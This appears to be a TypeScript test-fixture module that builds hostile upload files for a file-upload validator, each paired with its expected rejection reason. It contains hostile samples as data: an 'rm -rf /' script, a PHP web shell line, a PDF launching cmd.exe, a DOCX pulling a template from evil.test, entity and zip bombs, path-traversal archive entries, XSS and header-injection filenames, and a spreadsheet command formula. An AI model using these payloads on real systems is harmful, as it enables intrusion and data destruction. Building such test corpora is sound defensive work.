import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { html, pdf } from './sample-files';

type Packed = { name: string; content: Buffer | string; method?: number; flags?: number; size?: number };

/** An archive made by hand, so that each of its numbers can lie. */
export function zip(entries: Packed[], { count = entries.length, cut = 0 }: { count?: number; cut?: number } = {}): Buffer {
  let at = 0;
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  for (const { name, content, method = 8, flags = 0, size } of entries) {
    const bytes = Buffer.from(content);
    const packed = method === 8 ? deflateRawSync(bytes) : bytes;
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(flags, 2);
    common.writeUInt16LE(method, 4);
    common.writeUInt32LE(crc32(bytes), 10);
    common.writeUInt32LE(packed.length, 14);
    common.writeUInt32LE(size ?? bytes.length, 18);
    common.writeUInt16LE(Buffer.byteLength(name), 22);
    const entry = Buffer.concat([Buffer.from('504b0304', 'hex'), common, Buffer.from(name), packed]);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    central.push(Buffer.concat([Buffer.from('504b01021400', 'hex'), common, tail, Buffer.from(name)]));
    local.push(entry);
    at += entry.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(count, 4);
  end.writeUInt16LE(count, 6);
  end.writeUInt32LE(directory.length, 8);
  end.writeUInt32LE(at, 12);
  const whole = Buffer.concat([...local, directory, Buffer.from('504b0506', 'hex'), end]);
  return whole.subarray(0, whole.length - cut);
}

const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const body = { name: 'word/document.xml', content: '<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>' };

/** A small Word document with more parts. */
export const docx = (more: Packed[] = [], options?: Parameters<typeof zip>[1]) => zip([{ name: '[Content_Types].xml', content: types }, body, ...more], options);

/** A small OpenDocument text with more parts. */
export const odt = (more: Packed[] = []) => zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }, { name: 'content.xml', content: '<x/>' }, ...more]);

/** A PDF with one more object in it. */
export const pdfWith = (object: string | Buffer) => {
  const plain = pdf(300).toString('latin1').trimEnd();
  return Buffer.concat([Buffer.from(plain.replace('%%EOF', ''), 'latin1'), Buffer.from('\n9 0 obj '), Buffer.from(object), Buffer.from(' endobj\n%%EOF\n')]);
};

const hiddenIn = (inner: string) => {
  const packed = deflateSync(Buffer.from(inner));
  return Buffer.concat([Buffer.from(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`), packed, Buffer.from('\nendstream')]);
};

/** A PNG whose head says how large it is, whatever follows. */
export function png(width: number, height: number, data: Buffer = deflateSync(Buffer.alloc(64))): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), content]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(content.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', head), chunk('IDAT', data), chunk('IEND', Buffer.alloc(0))]);
}

export const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const relations = (target: string) => ({ name: 'word/_rels/settings.xml.rels', content: `<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>` });
const bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>';

export type Sample = { what: string; name: string; bytes: Buffer; expect: 'file.empty' | 'file.tooLarge' | 'file.type' | 'file.ending' | 'file.active' | 'file.archive' | 'file.picture' | 'kept' };
const sample = (expect: Sample['expect'], what: string, name: string, bytes: Buffer | string): Sample => ({ what, name, bytes: Buffer.from(bytes), expect });

/** Files that mean harm, each with what has to become of it: refused for a reason, or kept where it can do nothing. */
export async function maliciousFiles(): Promise<Sample[]> {
  const plain = sharp({ create: { width: 60, height: 40, channels: 3, background: '#336699' } });
  const located = await plain.clone().jpeg().withExif({ IFD0: { Make: 'Nadawca', Copyright: '<script>alert(1)</script>' }, IFD3: { GPSLatitude: '50/1 3/1 41/1', GPSLatitudeRef: 'N' } }).toBuffer();
  const [jpeg, picture, webp, gif] = await Promise.all([plain.clone().jpeg().toBuffer(), plain.clone().png().toBuffer(), plain.clone().webp().toBuffer(), plain.clone().gif().toBuffer()]);
  const zeros = Buffer.alloc(110 * 1024 * 1024);
  const megabyte = 1024 * 1024;
  return [
    // What it says it is, it is not.
    sample('file.type', 'a page named PDF', 'oferta.pdf', html),
    sample('file.type', 'SVG with a script', 'logo.svg', svg),
    sample('file.type', 'SVG named PNG', 'logo.png', svg),
    sample('file.type', 'SVG named PDF', 'logo.pdf', svg),
    sample('file.type', 'a Windows programme named PDF', 'x.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(400)])),
    sample('file.type', 'a Linux programme named DOCX', 'x.docx', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(200)])),
    sample('file.type', 'a shell script', 'x.pdf', '#!/bin/sh\nrm -rf /\n'),
    sample('file.type', 'JavaScript', 'x.js', 'alert(1)'),
    sample('file.type', 'PHP named JPG', 'x.jpg', '<?php system($_GET[0]);'),
    sample('file.type', 'XML with entities', 'x.xml', bomb),
    sample('file.type', 'a shortcut', 'x.lnk', Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(80)])),
    sample('file.type', 'EICAR in the open', 'eicar.pdf', eicar),
    sample('file.type', 'GIF that is JavaScript too', 'x.gif', Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(40), Buffer.from('*/=1;alert(1)')])),
    sample('file.type', 'a real GIF', 'x.gif', gif),
    sample('file.type', 'WebP', 'x.webp', webp),
    sample('file.type', 'a bare archive', 'x.zip', zip([{ name: 'x.txt', content: 'x' }])),
    sample('file.type', 'an archive named DOCX', 'x.docx', zip([{ name: 'x.txt', content: 'x' }])),
    sample('file.type', 'EICAR in an archive', 'x.zip', zip([{ name: 'eicar.com', content: eicar }])),
    sample('file.type', 'RTF', 'x.rtf', '{\\rtf1\\object}'),
    sample('file.type', 'gzip', 'x.pdf', Buffer.from('1f8b0800000000000003', 'hex')),
    sample('file.type', 'PDF behind a page', 'x.pdf', Buffer.concat([html, pdf()])),
    sample('file.type', 'a spreadsheet with macros', 'x.xlsm', zip([{ name: '[Content_Types].xml', content: types.replace(/word/g, 'xl').replace(/ContentType="[^"]*"/, 'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"') }, { name: 'xl/vbaProject.bin', content: 'x' }])),
    sample('file.type', 'a Word file with macros', 'x.docm', zip([{ name: '[Content_Types].xml', content: types.replace(/ContentType="[^"]*"/, 'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"') }, body])),
    sample('file.ending', 'PDF named PNG', 'mapa.png', pdf()),
    sample('file.ending', 'PDF with two endings', 'faktura.pdf.exe', pdf()),
    sample('file.ending', 'PDF without an ending', 'faktura', pdf()),
    sample('file.ending', 'PDF with a dot behind', 'faktura.pdf.', pdf()),
    sample('file.ending', 'PDF named HTML', 'x.html', pdf()),
    sample('file.ending', 'JPEG named PDF', 'x.pdf', jpeg),
    sample('file.ending', 'DOCX named DOCM', 'x.docm', docx()),
    // Sizes.
    sample('file.empty', 'nothing at all', 'x.pdf', ''),
    sample('file.tooLarge', 'one byte too many', 'x.pdf', pdf(10 * megabyte + 1)),
    sample('kept', 'as large as may be', 'x.pdf', pdf(10 * megabyte)),
    // PDF that acts.
    ...['/JavaScript', '/J#61vaScript', '/#4a#53'].map((name, i) => sample('file.active', `PDF with a script, spelt ${i + 1}`, 'x.pdf', pdfWith(`<</S ${name} ${name}(app.alert(1))>>`))),
    sample('file.active', 'PDF that starts a programme', 'x.pdf', pdfWith('<</S /Launch /F (cmd.exe)>>')),
    sample('file.active', 'PDF with a file inside', 'x.pdf', pdfWith('<</Type /EmbeddedFile>>')),
    sample('file.active', 'PDF with a film', 'x.pdf', pdfWith('<</Subtype /RichMedia>>')),
    sample('file.active', 'PDF that sends a form', 'x.pdf', pdfWith('<</S /SubmitForm /F (http://x)>>')),
    sample('file.active', 'PDF with a script in a packed object', 'x.pdf', pdfWith(hiddenIn('1 0 <</S/JavaScript/JS(app.alert(1))>>'))),
    sample('file.archive', 'PDF with a packed object that never ends', 'x.pdf', pdfWith(hiddenIn(' '.repeat(21 * megabyte)))),
    sample('file.archive', 'PDF under a password', 'x.pdf', pdfWith('<</Filter /Standard /Encrypt 5 0 R>>')),
    sample('kept', 'PDF that is a page too', 'x.pdf', Buffer.concat([pdf(), html])),
    sample('kept', 'PDF cut in the middle', 'x.pdf', pdf().subarray(0, 60)),
    sample('kept', 'PDF with EICAR behind', 'x.pdf', Buffer.concat([pdf(), Buffer.from(eicar)])),
    // Documents that act.
    sample('file.active', 'DOCX with macros', 'x.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }])),
    sample('file.active', 'DOCX with a template from outside', 'x.docx', docx([relations('http://evil.test/t.dotm')])),
    sample('file.active', 'DOCX with an entity bomb', 'x.docx', docx([{ name: 'word/settings.xml', content: bomb }])),
    sample('file.active', 'DOCX with an object', 'x.docx', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])),
    sample('file.active', 'DOCX with ActiveX', 'x.docx', docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }])),
    sample('file.active', 'DOCX with a programme', 'x.docx', docx([{ name: 'word/run.exe', content: 'MZ' }])),
    sample('file.active', 'ODT with Basic', 'x.odt', odt([{ name: 'Basic/Standard/Module1.xml', content: '<x/>' }])),
    sample('file.active', 'ODT with a script', 'x.odt', odt([{ name: 'Scripts/python/x.py', content: 'x' }])),
    sample('file.archive', 'DOCX that unpacks to 110 MB', 'x.docx', docx([{ name: 'word/media/x.bin', content: zeros }])),
    sample('file.archive', 'DOCX that lies about its size', 'x.docx', docx([{ name: 'word/media/x.bin', content: zeros, size: 10 }])),
    sample('file.archive', 'DOCX with 3,000 parts', 'x.docx', docx(Array.from({ length: 3_000 }, (_, i) => ({ name: `word/${i}.xml`, content: 'x', method: 0 })))),
    sample('file.archive', 'DOCX that counts wrongly', 'x.docx', docx([], { count: 40 })),
    sample('file.archive', 'DOCX without its end', 'x.docx', docx([], { cut: 30 })),
    sample('file.archive', 'DOCX with a way out of its folder', 'x.docx', docx([{ name: '../../etc/cron.d/x', content: 'x' }])),
    sample('file.archive', 'DOCX with a name from the root', 'x.docx', docx([{ name: '/etc/passwd', content: 'x' }])),
    sample('file.archive', 'DOCX with backslashes', 'x.docx', docx([{ name: '..\\..\\x.xml', content: 'x' }])),
    sample('file.archive', 'DOCX with an encrypted part', 'x.docx', docx([{ name: 'word/x.xml', content: 'x', flags: 1 }])),
    sample('file.archive', 'DOCX packed in an unknown way', 'x.docx', docx([{ name: 'word/x.xml', content: 'x', method: 99 }])),
    sample('kept', 'DOCX with EICAR', 'x.docx', docx([{ name: 'word/media/e.txt', content: eicar }])),
    // Pictures.
    sample('file.picture', 'PNG of 60,000 by 60,000', 'x.png', png(60_000, 60_000)),
    sample('file.picture', 'PNG of no height', 'x.png', png(10, 0)),
    sample('file.picture', 'PNG without its pixels', 'x.png', png(400, 400)),
    sample('file.picture', 'PNG cut in the middle', 'x.png', picture.subarray(0, picture.length - 30)),
    sample('file.picture', 'JPEG cut in the middle', 'x.jpg', jpeg.subarray(0, jpeg.length - 200)),
    sample('file.picture', 'JPEG of a head alone', 'x.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')),
    sample('kept', 'JPEG with a place in it', 'x.jpg', located),
    sample('kept', 'JPEG with a page behind', 'x.jpg', Buffer.concat([jpeg, html])),
    sample('kept', 'PNG with an archive behind', 'x.png', Buffer.concat([picture, zip([{ name: 'x.txt', content: 'x' }])])),
    // Names.
    ...[
      '../../../etc/passwd.pdf', '..\\..\\boot.pdf', 'a\u0000b.pdf', 'fdp.\u202excod.pdf', `${'ż'.repeat(300)}.pdf`, 'CON.pdf', 'aux.pdf', 'a\r\nSet-Cookie: x=1.pdf', 'a"; filename="x.exe.pdf',
      '<svg onload=alert(1)>.pdf', 'раypal.pdf', '....pdf', ' .pdf', '%2e%2e%2fx.pdf', '=cmd|calc!A1.pdf', '🦀'.repeat(80) + '.pdf',
    ].map((name) => sample('kept', `the name ${JSON.stringify(name).slice(0, 40)}`, name, pdf())),
  ];
}
